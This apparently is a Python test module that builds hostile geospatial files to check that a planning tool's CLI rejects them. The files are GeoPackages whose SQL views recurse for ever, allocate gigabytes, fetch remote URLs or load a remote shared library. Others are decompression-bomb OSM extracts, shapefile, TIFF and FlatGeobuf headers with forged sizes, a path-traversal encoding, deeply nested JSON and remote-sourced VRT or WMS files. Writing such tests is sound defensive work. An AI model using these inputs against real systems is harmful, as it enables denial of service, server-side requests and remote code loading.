"""Layers and rasters that lie about their size, compute for ever, or fetch."""

from __future__ import annotations

import json
import sqlite3
import struct
import zlib
from contextlib import closing
from typing import TYPE_CHECKING

import numpy as np
import rasterio
from rasterio.transform import from_origin

from tests.cli.small_task import write_task
from tests.load.small_area import write_area, zones_frame
from tests.trust.hostile_cases import INFEASIBLE, INPUT, Case, Place, sites_case

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable
    from pathlib import Path

LAYERS = "layers that lie about their size, compute or fetch"
# A header that lies may be seen through: the small area then lacks what the text asks.
EITHER = (INPUT, INFEASIBLE)
RASTERS = "rasters that lie about their size, unpack to gigabytes or fetch"
_FOR_EVER = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"


def virtual_layer(address: str) -> bytes:
    """Return a virtual layer of GDAL whose source is elsewhere."""
    source = f"/vsicurl/http://{address}/z.geojson"
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="z"><SrcDataSource>{source}'
        "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


# --- GeoPackages ----------------------------------------------------------------------


def _geopackage(folder: Path, statements: Iterable[str]) -> bytes:
    """Return a GeoPackage of the small area's zones, changed by SQL."""
    path = folder / "made.gpkg"
    zones_frame().to_file(path, layer="zones")
    with closing(sqlite3.connect(path)) as base:
        base.execute("DROP TRIGGER IF EXISTS trigger_insert_feature_count_zones")
        base.execute("DROP TRIGGER IF EXISTS trigger_delete_feature_count_zones")
        base.execute("PRAGMA writable_schema = ON")
        for statement in statements:
            base.execute(statement)
        base.commit()
    raw = path.read_bytes()
    path.unlink()
    return raw


def _view(select: str) -> tuple[str, ...]:
    """Return SQL that puts a view in the place of the layer."""
    return (
        "ALTER TABLE zones RENAME TO kept",
        f"CREATE VIEW zones AS {select}",
        "UPDATE gpkg_contents SET table_name = 'zones'",
        "UPDATE gpkg_geometry_columns SET table_name = 'zones'",
    )


_COLUMNS = "zone_id, name, county_id, kind, population, geom"


def _geopackages() -> Iterable[tuple[str, Callable[[str], tuple[str, ...]]]]:
    yield (
        "a view without end",
        lambda _: _view(f"{_FOR_EVER} SELECT x AS fid, {_COLUMNS} FROM c, kept"),
    )
    yield (
        "a view of gigabytes",
        lambda _: _view(
            "SELECT fid, hex(zeroblob(900000000)) AS zone_id, geom FROM kept"
        ),
    )
    for function in (
        "gdal_get_pixel_value('/vsicurl/http://{}/z.tif', 1, 'pixel', 1, 1)",
        "ogr_geocode('{}')",
        "ogr_datasource_load_layers('/vsicurl/http://{}/z.geojson')",
        "load_extension('/vsicurl/http://{}/z.so')",
    ):
        yield (
            f"a view of {function.partition('(')[0]}",
            lambda address, function=function: _view(  # type: ignore[misc]
                f"SELECT fid, {function.format(address)} AS zone_id, geom FROM kept"
            ),
        )
    yield (
        "a column that computes gigabytes",
        lambda _: (
            "ALTER TABLE zones ADD COLUMN more GENERATED ALWAYS AS "
            "(hex(zeroblob(450000000))) VIRTUAL",
        ),
    )
    yield (
        "a virtual table of another source",
        lambda address: (
            "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES "
            "('table', 'aaa', 'aaa', 0, 'CREATE VIRTUAL TABLE aaa USING "
            f"VirtualOGR(''/vsicurl/http://{address}/z.geojson'')')",
            "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES "
            "('aaa', 'attributes', 'aaa')",
        ),
    )
    yield (
        "a layer in a circle of views",
        lambda _: _view("SELECT * FROM zones"),
    )


def _layer(
    name: str,
    ending: str,
    content: bytes | Callable[[Place], bytes],
    *,
    codes: tuple[int, ...] = (INPUT,),
) -> Case:
    """Return a case where the zones of the small area are another file."""

    def write(place: Place) -> list[str]:
        brief = write_area(place.folder)
        raw = content if isinstance(content, bytes) else content(place)
        (place.folder / f"z.{ending}").write_bytes(raw)
        text = brief.read_text("utf-8").replace("zones.geojson", f"z.{ending}")
        brief.write_text(text, "utf-8")
        return ["check", str(brief), "--json"]

    return Case(LAYERS, name, write, codes)


# --- Others ---------------------------------------------------------------------------


def _shapefile(place: Place, change: Callable[[dict[str, bytes]], None]) -> None:
    """Write the small area's zones as a shapefile, its files changed."""
    zones_frame().to_file(place.folder / "z.shp", encoding="UTF-8")
    held = {path.suffix: path.read_bytes() for path in place.folder.glob("z.*")}
    change(held)
    for suffix, raw in held.items():
        (place.folder / f"z{suffix}").write_bytes(raw)


def _shape_cases() -> Iterable[Case]:
    def huge_shp(held: dict[str, bytes]) -> None:
        held[".shp"] = (
            held[".shp"][:24] + struct.pack(">i", 2**31 - 1) + held[".shp"][28:]
        )
        held[".shx"] = (
            held[".shx"][:24] + struct.pack(">i", 2**31 - 1) + held[".shx"][28:]
        )

    def huge_shape(held: dict[str, bytes]) -> None:
        raw = bytearray(held[".shp"])
        struct.pack_into("<ii", raw, 100 + 8 + 36, 2**31 - 1, 2**31 - 1)
        held[".shp"] = bytes(raw)

    def huge_dbf(held: dict[str, bytes]) -> None:
        raw = bytearray(held[".dbf"])
        struct.pack_into("<I", raw, 4, 2**32 - 1)
        held[".dbf"] = bytes(raw)

    def wide_dbf(held: dict[str, bytes]) -> None:
        raw = bytearray(held[".dbf"])
        struct.pack_into("<HH", raw, 8, 65535, 65535)
        held[".dbf"] = bytes(raw)

    def odd_encoding(held: dict[str, bytes]) -> None:
        held[".cpg"] = b"../../outside/secret\0" * 1000

    def odd_system(held: dict[str, bytes]) -> None:
        held[".prj"] = b"PROJCS[" * 100_000

    for name, change in (
        ("headers of 2^31 shapes", huge_shp),
        ("a shape of 2^31 points", huge_shape),
        ("a table of 2^32 rows", huge_dbf),
        ("rows of 65,535 bytes", wide_dbf),
        ("an encoding that is a path", odd_encoding),
        ("a coordinate system 100,000 deep", odd_system),
    ):

        def write(
            place: Place, change: Callable[[dict[str, bytes]], None] = change
        ) -> list[str]:
            brief = write_area(place.folder)
            _shapefile(place, change)
            text = brief.read_text("utf-8").replace("zones.geojson", "z.shp")
            brief.write_text(text, "utf-8")
            return ["check", str(brief), "--json"]

        yield Case(LAYERS, f"shp: {name}", write, EITHER)


def _flatgeobuf(count: int) -> Callable[[Place], bytes]:
    def content(place: Place) -> bytes:
        path = place.folder / "made.fgb"
        zones_frame().to_file(path, driver="FlatGeobuf", SPATIAL_INDEX="NO")
        raw = path.read_bytes()
        path.unlink()
        old, new = struct.pack("<Q", 4), struct.pack("<Q", count)
        assert old in raw[:600]
        return raw[:600].replace(old, new, 1) + raw[600:]

    return content


def _geojson() -> Iterable[tuple[str, bytes]]:
    deep = "[" * 100_000 + "]" * 100_000
    head = '{"type":"FeatureCollection","features":['
    point = '{"type":"Feature","properties":{%s},"geometry":%s}'
    square = (
        '{"type":"Polygon","coordinates":[[[115.8,28.6],[%s,28.6],[115.9,28.7],'
        "[115.8,28.6]]]}"
    )
    nested = '{"type":"GeometryCollection","geometries":[' * 5000 + "]}" * 5000
    for name, text in {
        "lists 100,000 deep": head + point % ('"a":' + deep, "null") + "]}",
        "coordinates 100,000 deep": head
        + point % ("", '{"type":"Polygon","coordinates":' + deep + "}")
        + "]}",
        "objects 100,000 deep": '{"a":' * 100_000 + "1" + "}" * 100_000,
        "collections 5,000 deep": head + point % ("", nested) + "]}",
        "a coordinate beyond any number": head
        + point % ('"zone_id":"360102001"', square % "1e400")
        + "]}",
        "a coordinate of 100,000 digits": head
        + point % ('"zone_id":"360102001"', square % ("9" * 100_000))
        + "]}",
        "20,000 columns": head
        + point % (",".join(f'"c{n}":1' for n in range(20_000)), square % "115.9")
        + "]}",
        "another document of the web": json.dumps(
            {"type": "Topology", "objects": {}, "arcs": []}
        ),
    }.items():
        yield name, text.encode()


def _block(kind: bytes, blob: bytes) -> bytes:
    header = b"\x0a" + bytes([len(kind)]) + kind + b"\x18" + _varint(len(blob))
    return struct.pack(">I", len(header)) + header + blob


def _varint(number: int) -> bytes:
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def _roads() -> Iterable[Case]:
    """Yield OpenStreetMap extracts as roads."""
    zeros = zlib.compress(bytes(30 << 20))
    start = _block(b"OSMHeader", b"\x0a\x10" + b"\x22\x0eOsmSchema-V0.6")
    bomb = b"\x10" + _varint(30 << 20) + b"\x1a" + _varint(len(zeros)) + zeros
    lying = b"\x10" + _varint(2**31 - 1) + b"\x1a" + _varint(len(zeros)) + zeros
    for name, raw in {
        "cut in the middle": (start + _block(b"OSMData", bomb))[:200],
        "that unpacks to gigabytes": start + _block(b"OSMData", bomb) * 100,
        "that says to unpack to 2 GB": start + _block(b"OSMData", lying),
        "with a header of 4 GB": b"\xff\xff\xff\xff\x0a\x09OSMHeader" + bytes(100),
    }.items():

        def write(place: Place, raw: bytes = raw) -> list[str]:
            brief = write_task(
                place.folder,
                brief=(
                    "[policy]",
                    '[travel]\nmethod = "network"\nfile = "r.osm.pbf"\n[policy]',
                ),
            )
            (place.folder / "r.osm.pbf").write_bytes(raw)
            return ["check", str(brief), "--json"]

        yield Case(LAYERS, f"roads {name}", write)


# --- Rasters --------------------------------------------------------------------------


def _tiff(tags: dict[int, tuple[int, int]], extra: bytes = b"") -> bytes:
    """Return a GeoTIFF that is a header and tags: (kind, value or offset)."""
    body = struct.pack("<H", len(tags))
    for tag, (kind, value) in sorted(tags.items()):
        body += struct.pack("<HHI", tag, kind, 1)
        body += struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
    return b"II*\0" + struct.pack("<I", 8) + body + struct.pack("<I", 0) + extra


def _placed(place: Place, **profile: object) -> bytes:
    """Return a sparse raster over the small area of a size that is chosen."""
    path = place.folder / "made.tif"
    side = int(str(profile.pop("side")))
    options = {
        "driver": "GTiff",
        "width": side,
        "height": side,
        "count": 1,
        "dtype": "float32",
        "crs": "EPSG:4326",
        "transform": from_origin(115.7, 28.8, 0.6 / side, 0.3 / side),
        "sparse_ok": True,
        "tiled": True,
        "bigtiff": "YES",
    } | profile
    with rasterio.open(path, "w", **options) as target:
        target.write(np.ones((1, 16, 16), "float32"), window=((0, 16), (0, 16)))
    raw = path.read_bytes()
    path.unlink()
    return raw


def _rasters() -> Iterable[tuple[str, Callable[[Place], bytes]]]:
    huge = {
        256: (4, 10**9), 257: (4, 10**9), 258: (3, 32), 259: (3, 1), 262: (3, 1),
        273: (4, 8), 277: (3, 1), 278: (4, 10**9), 279: (4, 100), 339: (3, 3),
    }  # fmt: skip
    yield "a header of 10^9 times 10^9 cells", lambda _: _tiff(huge)
    yield "65,535 bands", lambda _: _tiff(huge | {256: (4, 9), 277: (3, 65535)})
    yield "tiles of 10^9 cells", _tiled
    yield "a table of tags in a circle", lambda _: b"II*\0\x08\0\0\0\0\0\x08\0\0\0"
    yield (
        "a virtual raster",
        lambda place: (
            '<VRTDataset rasterXSize="9" rasterYSize="9"><VRTRasterBand '
            f'band="1"><SimpleSource><SourceFilename>/vsicurl/http://{place.address}/z'
            "</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>"
        ).encode(),
    )
    yield (
        "a map service",
        lambda place: (
            f'<GDAL_WMS><Service name="WMS"><ServerUrl>http://{place.address}/?</ServerUrl>'
            "<Layers>a</Layers></Service></GDAL_WMS>"
        ).encode(),
    )
    yield (
        "a coverage service",
        lambda place: (
            f"<WCS_GDAL><ServiceURL>http://{place.address}/?</ServiceURL></WCS_GDAL>"
        ).encode(),
    )
    yield (
        "sparse, a million times a million cells",
        lambda place: _placed(place, side=10**6),
    )


def _tiled(place: Place) -> bytes:
    raw = _placed(place, side=4096, blockxsize=256, blockysize=256)
    found = raw.find(struct.pack("<HHQH", 322, 3, 1, 256))
    assert found > 0
    return raw[:found] + struct.pack("<HHQI", 322, 4, 1, 2**30) + raw[found + 16 :]


def _raster_cases() -> Iterable[Case]:
    for name, content in _rasters():
        for use, section in (
            ("people", '[demand]\nsource = "raster"\nfile = "r.tif"\n'),
            (
                "friction",
                '[travel]\nmethod = "friction"\nfile = "r.tif"\n'
                'units = "minutes_per_metre"\n',
            ),
        ):

            def write(
                place: Place,
                content: Callable[[Place], bytes] = content,
                section: str = section,
            ) -> list[str]:
                brief = write_area(place.folder)
                (place.folder / "r.tif").write_bytes(content(place))
                brief.write_text(brief.read_text("utf-8") + section, "utf-8")
                return ["check", str(brief), "--json"]

            yield Case(RASTERS, f"{use}: {name}", write)


def _beside(place: Place) -> list[str]:
    """Write a good raster, and beside it what GDAL reads of it: overviews elsewhere."""
    brief = write_area(place.folder)
    (place.folder / "r.tif").write_bytes(_placed(place, side=400))
    source = f"/vsicurl/http://{place.address}/z.tif"
    (place.folder / "r.tif.aux.xml").write_text(
        '<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">'
        f"{source}</MDI></Metadata><PAMRasterBand band='1'><Histograms/>"
        f"<MaskFile>{source}</MaskFile></PAMRasterBand></PAMDataset>",
        "utf-8",
    )
    section = '[demand]\nsource = "raster"\nfile = "r.tif"\n'
    brief.write_text(brief.read_text("utf-8") + section, "utf-8")
    return ["check", str(brief), "--json"]


def cases() -> Iterable[Case]:
    """Yield layers, roads and rasters."""
    for name, statements in _geopackages():

        def content(
            place: Place, statements: Callable[[str], tuple[str, ...]] = statements
        ) -> bytes:
            return _geopackage(place.folder, statements(place.address))

        yield _layer(f"gpkg: {name}", "gpkg", content)
    yield from _shape_cases()
    for count in (10**6, 2**31, 2**40, 2**62):
        yield _layer(
            f"fgb of {count:,} shapes", "fgb", _flatgeobuf(count), codes=EITHER
        )
    for name, raw in _geojson():
        yield _layer(f"geojson: {name}", "geojson", raw)
        yield sites_case(LAYERS, f"sites as geojson: {name}", "s.geojson", raw)
    yield from _roads()
    yield from _raster_cases()
    yield Case(RASTERS, "people: overviews elsewhere, beside it", _beside, EITHER)
